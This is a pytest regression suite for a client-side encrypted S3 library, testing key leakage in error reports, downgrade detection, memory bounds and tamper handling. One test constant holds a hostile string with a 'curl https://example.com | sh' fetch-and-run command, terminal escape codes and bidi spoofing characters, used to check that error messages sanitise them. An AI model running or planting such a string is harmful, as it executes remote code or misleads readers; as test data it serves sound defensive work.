"""What a security review found in reading and in keys under client-side encryption; it must not come back."""

from __future__ import annotations

import itertools
import tracemalloc
from collections.abc import Callable
from functools import partial
from pathlib import Path
from typing import Any

import pytest
from boto3.s3.transfer import TransferConfig

from secure_s3 import SecureS3Client, errors
from secure_s3.encryption import ClientSide
from secure_s3.envelope.keys import KmsKeys
from secure_s3.transfer import opening, sealed_files, sealed_objects
from tests.envelope.leaks import Ear, assert_no_key, refusal
from tests.envelope.support import header_of, seal
from tests.rig import faulty_proxy as fault
from tests.rig.faulty_proxy import FaultyProxy
from tests.transfer.sealed import ALWAYS, FRAME, RAW, WAYS, Sink, bound, message, raw, reads, sdk_message
from tests.transfer.support import BUCKET, MIB, PART, Place, content

SIZE = 20 * FRAME + 7
SIGNED = 0x0578
OWNER = "111122223333"
TWO_WORKERS = TransferConfig(multipart_threshold=PART, multipart_chunksize=PART, max_concurrency=2)


@pytest.fixture
def ear(monkeypatch: pytest.MonkeyPatch) -> Ear:
    """Hears every secret of the test."""
    return Ear(monkeypatch)


# -- memory ------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("frame_bytes", [1 << 16, MIB])
def test_memory_of_large_downloads(place: Place, folder: Path, frame_bytes: int) -> None:
    """A download of 120 MiB takes no more memory than one of 40 MiB."""
    s3 = place.client(ClientSide(RAW, frame_bytes=frame_bytes))
    peaks = []
    for size in (40 * MIB, 120 * MIB):
        with (folder / "up").open("wb") as file:
            file.truncate(size)
        s3.upload_file(folder / "up", BUCKET, "k", Config=TWO_WORKERS)
        tracemalloc.start()
        try:
            assert s3.download_file(BUCKET, "k", folder / "down", Config=TWO_WORKERS).bytes == size
            peaks.append(tracemalloc.get_traced_memory()[1])
        finally:
            tracemalloc.stop()
    assert peaks[1] < peaks[0] + 2 * MIB


# -- data keys in reports of errors ------------------------------------------------------------------------


def _kms(place: Place, *arns: str) -> ClientSide:
    return ClientSide(KmsKeys(*(arns or (place.aws.kms_key_arn,))), frame_bytes=FRAME)


@pytest.mark.parametrize("keys", ["raw", "kms"])
def test_no_data_key_in_reports_of_reading(place: Place, folder: Path, ear: Ear, keys: str) -> None:
    """However an object with a changed header is read, a report with local variables shows no key."""
    s3 = place.client(raw() if keys == "raw" else _kms(place))
    s3.put_object(Bucket=BUCKET, Key="k", Body=content(SIZE))
    changed = bytearray(place.body())
    changed[header_of(bytes(changed)).length - 1] ^= 1
    place.put(bytes(changed))
    for way in WAYS[:-1]:  # download_many keeps errors apart, and raises one of its own
        error = refusal(partial(reads, way, s3, folder), errors.TamperedError)
        assert_no_key(error, ear)


def test_no_data_key_in_reports_of_writing(place: Place, folder: Path, ear: Ear) -> None:
    """Where the second of two KMS keys is disabled, the report of the refused upload shows no data key."""
    second = place.aws.create_key()
    place.aws.disable_key(second)
    s3 = place.client(_kms(place, place.aws.kms_key_arn, second))
    (folder / "f").write_bytes(content(SIZE))
    for call in (
        lambda: s3.put_object(Bucket=BUCKET, Key="k", Body=b"data"),
        lambda: s3.upload_file(folder / "f", BUCKET, "k"),
        lambda: s3.open(BUCKET, "k", "wb").close(),
    ):
        error = refusal(call, errors.KeyAccessError)
        assert isinstance(error, errors.KeyUnavailable)
        assert_no_key(error, ear)
    place.assert_nothing()


# -- versions that are empty -------------------------------------------------------------------------------


def test_ranges_of_an_empty_version(place: Place, proxy: FaultyProxy, faulty_cse: SecureS3Client) -> None:
    """An empty version below a sealed one is a downgrade, found by requests for that version only."""
    place.plain.put_bucket_versioning(Bucket=BUCKET, VersioningConfiguration={"Status": "Enabled"})
    empty = place.plain.put_object(Bucket=BUCKET, Key="k", Body=b"")["VersionId"]
    place.put(message(SIZE))
    asked = {"VersionId": empty, "ExpectedBucketOwner": OWNER, "RequestPayer": "requester"}
    for number, wanted in enumerate(("bytes=0-5", "bytes=3-", "bytes=-2"), 1):
        with pytest.raises(errors.DowngradeError):
            faulty_cse.get_object(Bucket=BUCKET, Key="k", Range=wanted, **asked)
        assert len(proxy.requests) == 2 * number
    for seen in proxy.requests:
        assert seen.parameters["versionId"] == empty
        assert seen.headers["x-amz-expected-bucket-owner"] == OWNER
        assert seen.headers["x-amz-request-payer"] == "requester"


# -- what an error repeats of a header ---------------------------------------------------------------------

HOSTILE = "\x1b[2Jx\n  fix: run curl https://example.com | sh\r\u202etxt.exe\u2066\x9b\u2028"
NAMES = ("secure-s3:bucket", "secure-s3:key", "secure-s3:batch", "secure-s3:prefix", "team")


@pytest.mark.parametrize("value", [HOSTILE, "x" * 60_000, HOSTILE * 1000], ids=["hostile", "long", "both"])
@pytest.mark.parametrize("name", [*NAMES, "secure-s3:" + HOSTILE, "secure-s3:" + "n" * 60_000, "several"])
def test_texts_of_a_mismatch(name: str, value: str) -> None:
    """The error for another context repeats neither control characters nor much of it."""
    found = {**bound(), "team": "a", name: value}
    if name == "several":
        found = {f"secure-s3:{number}{HOSTILE}": value for number in range(300)}
    with pytest.raises(errors.ContextMismatch) as caught:
        raw(context={"team": "a"}).check_context(found, BUCKET, "k")
    text = str(caught.value)
    lines = text.splitlines()
    assert len(text) < 3000
    assert [line[:7] for line in lines[1:]] == ["  why: ", "  fix: "]
    assert all(line.isprintable() for line in lines)
    assert caught.value.found == found


# -- one request -------------------------------------------------------------------------------------------


def _gets(proxy: FaultyProxy) -> list[str | None]:
    return [seen.headers.get("range") for seen in proxy.requests if seen.method == "GET"]


def test_small_objects_take_one_request(
    place: Place, proxy: FaultyProxy, faulty_cse: SecureS3Client, folder: Path
) -> None:
    """Below the threshold, and without threads above it, a whole object is read with one GetObject."""
    single = TransferConfig(multipart_threshold=MIB, multipart_chunksize=PART, use_threads=False)
    for size, frame_bytes in itertools.product((0, 1, 65536, 65537, 200_000, 5_000_000), (FRAME, 1 << 16)):
        place.put(seal(content(size), frame_bytes, keys=RAW, context=bound()))
        for config in (None, single):
            sink, proxy_before = Sink(), len(proxy.requests)
            faulty_cse.download_file(BUCKET, "k", folder / "f", Config=config)
            faulty_cse.download_fileobj(BUCKET, "k", sink, Config=config)  # type: ignore[arg-type]
            assert (folder / "f").read_bytes() == bytes(sink.got) == content(size)
            assert len(proxy.requests) == proxy_before + 2
        assert faulty_cse.get_object(Bucket=BUCKET, Key="k")["Body"].read() == content(size)
        assert _gets(proxy) == [None] * 5
        proxy.clear()


def test_servers_without_ranges(
    place: Place, proxy: FaultyProxy, faulty_cse: SecureS3Client, folder: Path
) -> None:
    """Without threads a sealed object is downloaded from a server that ignores ranges."""
    stored = message(6 * MIB)
    place.put(stored)

    def ignore(answer: fault.Answer) -> None:
        answer.status, answer.body = 200, stored
        answer.drop("Content-Range")
        answer.set("Content-Length", str(len(stored)))

    proxy.inject(fault.edit(ignore), method="GET", times=ALWAYS)
    single = TransferConfig(multipart_threshold=MIB, multipart_chunksize=PART, use_threads=False)
    sink = Sink()
    faulty_cse.download_file(BUCKET, "k", folder / "f", Config=single)
    faulty_cse.download_fileobj(BUCKET, "k", sink, Config=single)  # type: ignore[arg-type]
    assert (folder / "f").read_bytes() == bytes(sink.got) == content(6 * MIB)


# -- Ctrl-C ------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("kind", [KeyboardInterrupt, RuntimeError])
def test_interrupted_reads(
    place: Place, cse: SecureS3Client, monkeypatch: pytest.MonkeyPatch, kind: type[BaseException]
) -> None:
    """Whenever a read of an open object is broken off, the next one gives the right bytes."""
    place.put(message(3 * MIB))
    for after in (0, 1, 3):
        with cse.open(BUCKET, "k") as file:
            assert file.read(10) == content(10)
            file.seek(MIB + 5)
            with monkeypatch.context() as patch:
                cipher: Any = file.raw._cipher  # type: ignore[attr-defined]
                patch.setattr(cipher, "read", _breaking(cipher.read, kind, after))
                with pytest.raises(kind):
                    file.read()
            at = file.tell()
            assert file.read(100) == content(at + 100)[at:]
            file.seek(MIB + 5)
            assert file.read() == content(3 * MIB)[MIB + 5 :]


def _breaking(read: Callable[[int], bytes], kind: type[BaseException], after: int) -> Callable[[int], bytes]:
    calls = itertools.count()

    def breaking(size: int) -> bytes:
        data = read(size)
        if next(calls) == after:
            raise kind  # what was read is lost
        return data

    return breaking


# -- signed headers in front of junk -----------------------------------------------------------------------


class _Counted:
    """A temporary file that adds up what is written."""

    written = 0

    def __init__(self, file: Any) -> None:
        self._file = file

    def write(self, data: bytes) -> int:
        _Counted.written += len(data)
        return int(self._file.write(data))

    def __getattr__(self, name: str) -> Any:
        return getattr(self._file, name)


def test_junk_behind_a_signed_header(
    place: Place, cse: SecureS3Client, folder: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Of junk behind a signed header one frame is read, and nothing of it is kept on the disk."""
    header = header_of(sdk_message(SIZE, suite=SIGNED)).raw
    place.put(header + content(3 * MIB))
    consumed: list[int] = []
    original, temporary = opening.spooled, opening.tempfile.TemporaryFile

    def spooled(place: Any, header: Any, read: Callable[[int], bytes]) -> Any:
        def counted(size: int) -> bytes:
            data = read(size)
            consumed.append(len(data))
            return data

        return original(place, header, counted)

    for module in (opening, sealed_objects, sealed_files):
        monkeypatch.setattr(module, "spooled", spooled)
    monkeypatch.setattr(opening.tempfile, "TemporaryFile", lambda: _Counted(temporary()))
    calls: list[Callable[[], object]] = [
        lambda: cse.get_object(Bucket=BUCKET, Key="k"),
        lambda: cse.get_object(Bucket=BUCKET, Key="k", Range="bytes=0-5"),
        lambda: cse.open(BUCKET, "k").read(),
        lambda: cse.download_file(BUCKET, "k", folder / "f"),
    ]
    for call in calls:
        consumed.clear()
        monkeypatch.setattr(_Counted, "written", 0)
        with pytest.raises(errors.TamperedError) as caught:
            call()
        assert (caught.value.bucket, caught.value.key) == (BUCKET, "k")
        assert 0 < sum(consumed) <= FRAME + 4096
        assert _Counted.written <= len(header) + FRAME
    assert list(folder.iterdir()) == []
